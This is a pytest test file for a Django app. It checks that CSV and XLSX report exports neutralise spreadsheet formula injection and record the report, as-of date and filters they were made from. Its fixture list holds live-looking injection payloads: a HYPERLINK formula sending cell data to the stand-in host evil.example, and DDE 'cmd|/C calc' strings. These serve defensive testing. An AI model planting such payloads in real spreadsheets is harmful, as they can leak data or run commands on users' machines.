"""Exports are safe to open in a spreadsheet (no text runs as a formula) and, like the XLSX,
the CSV says what it was made from: the report, the as-of date and the filters."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.tests.factories import coordinator
from applicants.models import Region
from core.spreadsheets import cell_safe

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile_regions():
    for i, name in enumerate(HOSTILE):
        Region.objects.create(name=name, code=f"hostile-{i}", order=100 + i)


def test_cell_safe_quotes_formula_starts_and_leaves_the_rest():
    assert [cell_safe(v) for v in HOSTILE] == ["'" + v for v in HOSTILE]
    assert cell_safe("North Central") == "North Central"
    assert cell_safe(-3) == -3 and cell_safe(12) == 12  # numbers are numbers
    assert cell_safe("") == ""


def test_csv_neutralises_formulas_and_starts_with_what_it_was_made_from(client, hostile_regions):
    client.force_login(coordinator())

    response = client.get(
        reverse("reports:endorsed_csv"),
        {"as_of": "2026-06-30", "track": "infant", "program_type": "home_visiting"},
    )

    lines = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert lines[0][0].startswith("# Report: Endorsed staff by region")
    assert "Counted on: 2026-06-30" in lines[0][0]
    assert "Track: Infant" in lines[0][0] and "Program type: Home visiting" in lines[0][0]
    assert "Category: All categories" in lines[0][0]
    names = [row[0] for row in lines[2:]]
    for name in HOSTILE:
        assert "'" + name in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for row in lines for n in row)


def test_xlsx_neutralises_formulas_in_every_sheet(client, hostile_regions):
    client.force_login(coordinator())

    response = client.get(reverse("reports:endorsed_xlsx"), {"as_of": "2026-06-30"})

    book = load_workbook(io.BytesIO(response.content))
    sheet = book["Endorsed by region"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    hostile = [
        n
        for n in names
        if n
        not in {
            "North Central",
            "Northwest",
            "South Central",
            "Southwest",
            "Eastern",
            "All regions",
        }
    ]
    # (XML keeps a carriage return as a line feed: compare what follows the quote.)
    assert len(hostile) == len(HOSTILE) and all(n.startswith("'") for n in hostile)
    assert "'" + HOSTILE[0] in names
    about = [c for row in book["About"].iter_rows() for c in row]
    assert not [c.coordinate for c in about if c.data_type == "f"]
